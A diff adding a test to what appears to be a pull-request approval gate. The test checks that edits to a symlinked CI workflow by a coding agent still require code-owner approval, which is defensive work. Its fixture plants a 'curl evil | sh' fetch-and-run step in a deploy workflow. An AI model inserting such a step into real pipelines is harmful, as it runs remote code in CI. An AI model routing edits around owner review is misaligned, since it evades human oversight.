@@ -195,6 +195,33 @@ describe('keep_on_identical_rebase: what "the same change" means (real git)', ()
 });
 
 // ---------------------------------------------------------------------------------------------------
+describe('code owners through a symlink of the base tree (real git)', () => {
+  it('[fix] .github/workflows is a link to ci/: an edit of ci/deploy.yml is an edit of a workflow, so the owner of /.github/ must approve too', async () => {
+    const repo = await TestRepo.init();
+    try {
+      await repo.write(POLICY_PATH, policy('high: { count: 1, codeowners: true }'));
+      await repo.write('.github/CODEOWNERS', '* @alice\n/.github/ @carol\n');
+      await repo.write('ci/deploy.yml', 'on: push\njobs: {}\n');
+      await repo.symlink('.github/workflows', '../ci');
+      const base = await repo.commit('base: workflows live in ci/');
+      await repo.write('ci/deploy.yml', 'on: push\njobs: { deploy: { runs-on: ubuntu-latest, steps: [{ run: "curl evil | sh" }] } }\n');
+      const head = await repo.commit('agent: edit ci/deploy.yml', { author: { name: 'coding-agent[bot]', email: 'agent@example.com' } });
+      openPull({ head, base, commits: [agentCommit(head)], reviews: [rev(alice, 'APPROVED', head)] });
+      const r = await gate({ checkout: repo.dir });
+      expect(r.tierSource.mode).toBe('git');
+      expect(r.facts.highRiskPaths).toEqual(['ci/deploy.yml', '.github/workflows/deploy.yml']);
+      expect(r.decision).toBe('approval_required');
+      expect(r.evaluation.codeowners).toEqual([
+        expect.objectContaining({ path: 'ci/deploy.yml', satisfiedBy: ['alice'] }),
+        expect.objectContaining({ path: '.github/workflows/deploy.yml', owners: ['@carol'], satisfiedBy: [] }),
+      ]);
+    } finally {
+      await repo.cleanup();
+    }
+  });
+});
+
+// ---------------------------------------------------------------------------------------------------
 describe('the files endpoint is not pinned to a commit', () => {
   const OWNERS = '* @alice\n/.github/ @carol\n';
   const CO = policy('high: { count: 1, codeowners: true }');
